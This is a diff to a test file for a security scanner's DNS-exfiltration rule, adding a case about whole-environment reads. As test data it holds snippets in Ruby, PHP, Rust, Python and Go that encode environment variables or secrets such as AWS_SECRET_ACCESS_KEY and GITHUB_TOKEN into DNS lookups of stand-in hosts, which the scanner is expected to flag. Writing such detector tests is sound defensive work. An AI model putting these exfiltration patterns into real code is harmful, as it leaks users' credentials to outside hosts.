@@ -2080,6 +2080,15 @@ describe('dns-exfiltration: data written into the name a DNS lookup asks for', (
     expect(dns('pkg/_ping.py', ['d = base64.b32encode(os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode()).decode().strip("=")', 'socket.gethostbyname(f"{d}.x.ns-check.net")'])?.severity).toBe('critical');
     expect(dns('internal/t.go', ['\tnet.LookupHost(hex.EncodeToString([]byte(os.Getenv("GITHUB_TOKEN"))) + ".x.dnslog.dev")'])?.severity).toBe('critical');
   });
+  it("reads the whole environment in every form the code rules know (WHOLE_ENVIRONMENT's), not only a few of them", () => {
+    // The forms this rule once wrote for itself lacked Ruby's ENV.map, ENV.to_a…, PHP's getenv() and Rust's env::vars_os().
+    expect(dns('lib/setup.rb', ['d = ENV.map { |k, v| v }.join("-")[0, 60]', 'Resolv.getaddress("#{d}.x.dnslog.dev")'])?.severity).toBe('critical');
+    expect(dns('src/boot.php', ["$d = substr(implode('-', getenv()), 0, 60);", 'gethostbyname("{$d}.x.dnslog.dev");'])?.severity).toBe('critical');
+    expect(dns('build.rs', ['let d: String = env::vars_os().map(|(k, _)| k.to_string_lossy().into_owned()).collect();', 'let _ = lookup_host(format!("{}.x.dnslog.dev:80", d));'])?.severity).toBe('critical');
+    // A bare process.env or os.environ is also how one variable is destructured or aliased: no data.
+    expect(dns('src/discovery.ts', ['const { SERVICE } = process.env;', 'dns.lookup(`${SERVICE}.svc.acme.io`, cb);'])).toBeUndefined();
+    expect(dns('src/discovery.py', ['env = os.environ', 'socket.gethostbyname(f"{env[\'SERVICE\']}.svc.acme.io")'])).toBeUndefined();
+  });
   it('is quiet on lookups of names built from ordinary values, random names, local and example domains', () => {
     expect(dns('scripts/check-dns.sh', ['dig +short "${SERVICE}.svc.cluster.local"', 'dig +short "_acme-challenge.$DOMAIN" TXT @"$NS"', 'host "$(git rev-parse --short HEAD).preview.acme.dev"', 'ping -c1 "$(hostname).corp.acme.com"', 'echo "resolving $(whoami).example.dev"'])).toBeUndefined();
     expect(dns('test/dns.test.js', ["const name = `${crypto.randomBytes(8).toString('hex')}.nxdomain-check.io`;", "await assert.rejects(dns.promises.resolve4(`${crypto.randomBytes(8).toString('hex')}.nxdomain-check.io`));"])).toBeUndefined();
